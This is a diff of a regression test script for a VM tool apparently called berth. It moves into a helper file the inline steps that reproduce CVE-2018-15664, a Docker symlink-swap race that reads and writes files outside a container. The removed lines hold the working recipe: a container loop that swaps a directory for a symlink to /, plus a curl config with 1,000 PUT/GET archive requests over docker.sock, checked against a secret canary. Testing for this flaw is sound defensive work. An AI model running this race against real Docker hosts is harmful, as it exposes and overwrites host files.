@@ -4,32 +4,13 @@
 # A container swaps d/ for a symlink to / in a tight loop while 1,000 rounds
 # of PUT into /d and GET of d/berth-canary go through the machine's
 # docker.sock. Expect "race leaked reads: 0" and "vm root: clean".
-# The same steps run in the full tier's containers_vm suite. The container
-# sleeps 200 us between swaps: a loop without pauses on the machine's vCPUs
-# made the nested TCG outer VM stop without a status (twice, 2026-12-01).
+# The steps (cp_race_steps.sh) also run in the full tier's containers_vm suite.
 set -e
 export BERTH_FIXTURE_BUSYBOX="${BERTH_FIXTURE_BUSYBOX:-$(sed -n 's/^BERTH_FIXTURE_BUSYBOX=//p' ~/.cache/berth/images.env)}"
 berth machine create --cpus 2 --memory 768M --disk 2G race
 berth machine start race
 eval "$(berth docker-env --machine race)"
 docker load -i "$BERTH_FIXTURE_BUSYBOX" >/dev/null
-# CVE-2018-15664 in the VM: the container swaps d/ for a symlink to / in a
-# tight loop while 1,000 rounds of PUT into /d and GET of d/berth-canary go
-# through the machine's docker.sock (one curl process, many requests).
-berth machine shell race -- sh -c 'echo vm-secret > /berth-canary'
-docker run -d --name race busybox sh -c 'mkdir /d && echo in > /d/inside && cd / && while :; do mv d d.x; ln -s / d; usleep 200; rm d; mv d.x d; usleep 200; done' >/dev/null
-mkdir -p /tmp/race/put && echo put > /tmp/race/put/race-put-file && tar -C /tmp/race/put -cf /tmp/race/put.tar race-put-file
-sock=${DOCKER_HOST#unix://}
-for i in $(seq 1 1000); do
-  echo "unix-socket = \"$sock\""; echo 'request = "PUT"'; echo 'data-binary = "@/tmp/race/put.tar"'
-  echo 'url = "http://x/containers/race/archive?path=/d"'; echo 'output = "/dev/null"'; echo 'write-out = "put %{http_code}\n"'; echo next
-  echo "unix-socket = \"$sock\""; echo 'url = "http://x/containers/race/archive?path=/d/berth-canary"'
-  echo "output = \"/tmp/race/get$i\""; echo 'write-out = "get %{http_code}\n"'; echo next
-done | sed '$d' > /tmp/race/curl.cfg
-curl -s -K /tmp/race/curl.cfg > /tmp/race/codes || true
-echo "race puts into d/: $(grep -c '^put 200' /tmp/race/codes) of 1000"
-echo "race gets: $(grep -c '^get ' /tmp/race/codes)"
-echo "race leaked reads: $(cat /tmp/race/get* | grep -c vm-secret || true)"
-echo "race canary: $(berth machine shell race -- cat /berth-canary) vm root: $(berth machine shell race -- sh -c 'test -e /race-put-file && echo WRITTEN || echo clean')"
-docker rm -f race >/dev/null
+machine=race
+. "$(dirname "$0")/cp_race_steps.sh"
 berth machine rm --force race
